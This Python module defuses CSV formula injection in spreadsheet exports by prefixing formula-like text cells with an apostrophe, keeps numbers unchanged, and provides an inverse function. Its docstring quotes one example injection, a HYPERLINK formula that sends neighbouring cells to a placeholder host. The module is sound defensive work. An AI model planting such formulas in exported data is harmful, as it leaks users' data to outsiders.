"""CSV that a person opens in a spreadsheet: text a spreadsheet would run as a formula is written as text.

Every CSV the hub exports goes through ``csv_writer`` (or ``csv_text``), so no room has to remember CSV
injection (OWASP): Excel, LibreOffice and Google Sheets take a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula, and a formula such as ``=HYPERLINK("http://x?"&A1, "open")``
sends its neighbours to a stranger when clicked. Such a text cell is written with an apostrophe in front,
which a spreadsheet reads as "this is text" and does not show.

Only text is defused, never numbers: an ``int``, ``float`` or ``Decimal`` (any ``numbers.Number``) the exporter
put in a row is written as the number it is, so ``-3.5`` stays ``-3.5`` and the spreadsheet can still add it up.
A number carries no formula, and only the exporter knows which cells are numbers, by their type: text that
merely looks like a number (``"-3.5"`` typed into a note) is text and is defused. So an exporter hands numbers
over as numbers (format money by quantizing a ``Decimal``, not with an f-string). ``None`` is an empty cell;
anything else (a date, an enum) is written as its ``str`` and defused like text.

A cell that already begins with apostrophes before a formula character gets one more, so ``undefused`` gives
back exactly what was written: a reader of a file the hub may have written (a labelling export edited and
imported again) calls it on each cell.

Written here rather than taken from ``defusedcsv``: that library does not defuse a leading tab or carriage
return, rewrites every ``|`` in a defused cell as ``\\|`` (so what was typed cannot be read back), and would
be a new dependency for a dozen lines.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from numbers import Number
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"  # what a spreadsheet takes as "the rest is text", and does not show

Cell = Any  # str (defused), numbers.Number (written as is), None (empty), anything else (as str, defused)


class _Handle(Protocol):
    def write(self, text: str, /) -> Any: ...


def _formula_like(text: str) -> bool:
    return text.lstrip(TEXT_MARK).startswith(FORMULA_STARTS)


def defused(text: str) -> str:
    """``text`` as a cell a spreadsheet shows rather than evaluates."""
    return TEXT_MARK + text if _formula_like(text) else text


def undefused(text: str) -> str:
    """The inverse of ``defused``: the text as it was before a hub export defused it."""
    return text[1:] if text.startswith(TEXT_MARK) and _formula_like(text) else text


def safe_cell(value: Cell) -> Cell:
    """A row's cell as written: numbers and empty cells as they are, everything else as defused text."""
    if value is None or isinstance(value, Number):
        return value
    return defused(value if isinstance(value, str) else str(value))


class SpreadsheetWriter:
    """``csv.writer``'s ``writerow``/``writerows``, each cell through ``safe_cell``, in the one dialect spreadsheets
    expect (RFC 4180: commas, double quotes, CRLF). No other line ending is offered: with ``lineterminator="\n"``
    Python's writer leaves a cell holding a lone carriage return unquoted, and every reader then splits the row
    there (a typed ``"\r=1"`` did exactly that to the labelling export)."""

    def __init__(self, handle: _Handle) -> None:
        self._writer = csv.writer(handle)

    def writerow(self, row: Iterable[Cell]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Cell]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: _Handle) -> SpreadsheetWriter:
    """A CSV writer onto ``handle`` (a file opened with ``newline=""``)."""
    return SpreadsheetWriter(handle)


def csv_text(header: Sequence[str], rows: Iterable[Iterable[Cell]]) -> str:
    """The whole file as text: a header row, then the rows."""
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()
